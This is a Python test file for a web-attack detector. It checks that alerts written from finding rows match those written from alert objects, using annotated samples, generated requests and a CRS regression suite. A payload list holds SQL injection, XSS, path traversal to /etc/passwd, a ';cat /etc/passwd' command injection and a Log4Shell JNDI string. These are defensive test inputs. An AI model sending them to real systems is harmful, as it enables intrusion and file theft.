"""web.attack_patterns holds a batch's findings as rows and writes their alerts' lines from the rows
(:mod:`watchhouse.detectors.web.findings`). Each line must be the line ``Alert.to_json`` writes for
the alert made from the finding object, byte for byte: on the annotated samples at every level, on
generated requests (absent method, status and agent, credentials in URLs, non-ASCII, quotes and
control characters), and on the whole CRS regression suite where ``../shared`` is present."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.detectors.web.test_attack_output_paths import POLICY_ROWS
from tests.detectors.web.test_attack_patterns import ALL_POSITIVES, NEAR_MISSES

from watchhouse.core.alerts import Alert
from watchhouse.core.events import Dataset, EventBatch
from watchhouse.core.finding_rows import AlertBatch, AlertRows, FindingRows
from watchhouse.core.findings import Finding, Severity
from watchhouse.detect.postprocess import PostProcessor
from watchhouse.detectors.web.attack_patterns import WebAttackDetector
from watchhouse.detectors.web.findings import WebFindingRows
from watchhouse.testing.factories import make_batch

T0 = datetime(2026, 3, 2, 9, tzinfo=UTC)
CRS_REQUESTS = (
    Path(__file__).resolve().parents[4] / "shared" / "corpora" / "crs-tests" / "derived" / "crs_requests.jsonl"
)
VERSIONS = {"web.attack_patterns": "2"}


def _lines_both_ways(rows: FindingRows, version: str = "2") -> tuple[bytes, bytes]:
    """The alert lines written from the rows, and written from the alert objects of the same findings."""
    post = PostProcessor({rows.detector: version})
    batch = post.process_parts([rows])
    from_rows = batch.json_lines()
    objects = Alert.many(list(rows), [a.id for a in batch], {rows.detector: version})
    return from_rows, b"".join(alert.to_json() for alert in objects)


def _samples() -> EventBatch:
    return EventBatch.concat([s.batch for s in ALL_POSITIVES + NEAR_MISSES])


@pytest.mark.parametrize("level", [1, 2, 3, 4])
def test_lines_from_rows_are_the_alerts_lines_on_the_samples(level: int) -> None:
    batch = EventBatch.concat([_samples(), make_batch(Dataset.HTTP, POLICY_ROWS, path="policy.log")])
    rows = WebAttackDetector(paranoia_level=level).detect_rows(batch)
    assert isinstance(rows, WebFindingRows) and len(rows) >= 20
    from_rows, from_objects = _lines_both_ways(rows)
    assert from_rows == from_objects
    assert from_rows.count(b"\n") == len(rows)


_TEXT = st.text(st.characters(codec="utf-8"), max_size=12)
_PAYLOADS = st.sampled_from(
    [
        "1' OR '1'='1",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        ";cat /etc/passwd",
        "${jndi:ldap://203.0.113.5/a}",
        '"><img src=x onerror=alert(1)>',
        "SLEEP(5)--",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    ]
)


@st.composite
def _requests(draw: st.DrawFn) -> list[dict[str, Any]]:
    rows = []
    for _ in range(draw(st.integers(1, 6))):
        payload = draw(_PAYLOADS) + draw(_TEXT)
        where = draw(st.sampled_from(["query", "agent", "header", "body"]))
        url = f"/{draw(st.sampled_from(['search', 'login', 'ü/å', 'a b']))}?" + draw(
            st.sampled_from(["q=", "token=secret1&q=", "password=hunter2&q="])
        )
        row: dict[str, Any] = {
            "@timestamp": T0 + timedelta(seconds=draw(st.integers(0, 3))),
            "source.ip": draw(st.sampled_from(["203.0.113.7", "2001:db8::1", None])),
            "http.request.method": draw(st.sampled_from(["GET", "POST", None])),
            "http.response.status_code": draw(st.sampled_from([200, 403, None])),
            "url.original": url + (payload if where == "query" else "1"),
            "user_agent.original": payload if where == "agent" else draw(st.sampled_from([None, "", 'curl/8.1 "x"'])),
            # a file read as a stream has offsets beside its lines; paths may hold anything
            "log.offset": draw(st.one_of(st.none(), st.integers(0, 10**12))),
            "log.file.path": draw(st.sampled_from(["gen/access.log", 'logs/"odd" ü\\path.log'])),
        }
        if where == "header":
            row["http.request.headers"] = json.dumps({"X-Forwarded-For": payload, "Referer": "\x01\u2028"})
        if where == "body":
            row["http.request.body.content"] = "comment=" + payload
        rows.append(row)
    return rows


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=_requests(), version=st.sampled_from(["2", "2.1-dev", 'odd"version']))
def test_lines_from_rows_are_the_alerts_lines_on_generated_requests(rows: list[dict[str, Any]], version: str) -> None:
    batch = make_batch(Dataset.HTTP, rows, path="gen/access.log", first_line=7)
    found = WebAttackDetector(paranoia_level=4, excerpt_chars=24).detect_rows(batch)
    if isinstance(found, WebFindingRows):
        from_rows, from_objects = _lines_both_ways(found, version)
        assert from_rows == from_objects


def test_rows_are_the_same_findings_as_objects() -> None:
    """A sequence of findings to every reader: made once, the same objects each time, equal to what
    ``detect`` returns, and counted without being made."""
    batch = _samples()
    detector = WebAttackDetector(paranoia_level=4)
    rows = detector.detect_rows(batch)
    assert isinstance(rows, FindingRows)
    assert rows.keys == [f.key for f in rows] and rows.severities == [f.severity for f in rows]
    assert rows.crime_codes == [f.crime_code for f in rows]
    assert rows[0] is rows.findings[0] and list(rows) == rows.findings and rows[1:3] == rows.findings[1:3]
    again = detector.detect(batch)  # the same batch: remembered, each caller a list of its own
    assert again == list(rows) and again is not detector.detect(batch)
    fresh = WebAttackDetector(paranoia_level=4).detect(batch)
    assert fresh == again and [f.details for f in fresh] == [f.details for f in again]


def test_a_row_without_a_timestamp_is_refused_as_before() -> None:
    """A finding needs its instant: the row is made into a finding where it is judged, and the
    constructor refuses it there (comparing first and last seen), as before rows."""
    batch = make_batch(Dataset.HTTP, [{"url.original": "/s?q=<script>alert(1)</script>"}])
    stamps = batch.table.column("@timestamp")
    table = batch.table.set_column(0, "@timestamp", pa.nulls(1, stamps.type))
    nulled = EventBatch.from_table(Dataset.HTTP, table)
    with pytest.raises(TypeError, match="not supported"):
        WebAttackDetector().detect_rows(nulled)


def test_post_processing_rows_decides_as_objects() -> None:
    """Rows go through the same de-duplication, threshold and counts as findings: three batches
    repeating requests, one post-processor per path."""
    batches = [_samples(), make_batch(Dataset.HTTP, POLICY_ROWS, path="policy.log"), _samples()]
    for min_severity in (Severity.INFO, Severity.HIGH):
        by_rows, by_objects = (PostProcessor(VERSIONS, min_severity=min_severity) for _ in range(2))
        detector = WebAttackDetector(paranoia_level=4)
        for batch in batches:
            rows = detector.detect_rows(batch)
            got = by_rows.process_parts([rows, []])
            expected = by_objects.process(list(rows))
            assert isinstance(got, AlertBatch) and list(got) == expected
            assert got.json_lines() == b"".join(a.to_json() for a in expected)
            crimes, detectors = got.counts()
            assert sum(crimes.values()) == len(expected) == sum(detectors.values())
        assert by_rows.stats == by_objects.stats
        assert by_rows.stats.duplicates > 0
        if min_severity is Severity.HIGH:
            assert by_rows.stats.below_threshold > 0


def test_rows_kept_as_rows_until_read() -> None:
    rows = WebAttackDetector(paranoia_level=4).detect_rows(_samples())
    assert isinstance(rows, WebFindingRows)
    batch = PostProcessor(VERSIONS).process_parts([rows])
    (segment,) = batch._segments
    assert isinstance(segment, AlertRows) and rows._made is None
    batch.json_lines()
    batch.counts()
    assert rows._made is None  # written and counted without a finding object
    alerts = list(batch)
    assert rows._made is not None and alerts[0].detector == "web.attack_patterns"
    assert batch.json_lines() == b"".join(a.to_json() for a in alerts)  # now written from the objects


def test_lines_from_rows_are_the_alerts_lines_on_the_crs_suite(corpora: Path) -> None:
    from watchhouse.detectors.web.evaluation import load_crs

    batch = make_batch(Dataset.HTTP, [case.row for case in load_crs(corpora / "crs-tests")])
    for level in (2, 4):
        rows = WebAttackDetector(paranoia_level=level).detect_rows(batch)
        assert isinstance(rows, WebFindingRows) and len(rows) > 3_000
        from_rows, from_objects = _lines_both_ways(rows)
        assert from_rows == from_objects


def test_a_subclass_overriding_detect_is_what_the_engine_runs() -> None:
    """The engine asks for rows; a subclass that changes ``detect`` must still be heard."""
    from watchhouse.detect.engine import DetectionEngine

    class OnlyCritical(WebAttackDetector):
        def detect(self, batch: EventBatch) -> list[Finding]:
            return [f for f in super().detect(batch) if f.severity >= Severity.CRITICAL]

    batch = _samples()
    everything = DetectionEngine([WebAttackDetector(paranoia_level=4)], PostProcessor(VERSIONS)).process(batch)
    critical = DetectionEngine([OnlyCritical(paranoia_level=4)], PostProcessor(VERSIONS)).process(batch)
    assert 0 < len(critical) < len(everything)
    assert {a.severity for a in critical} == {Severity.CRITICAL}
    assert critical == [a for a in everything if a.severity >= Severity.CRITICAL]
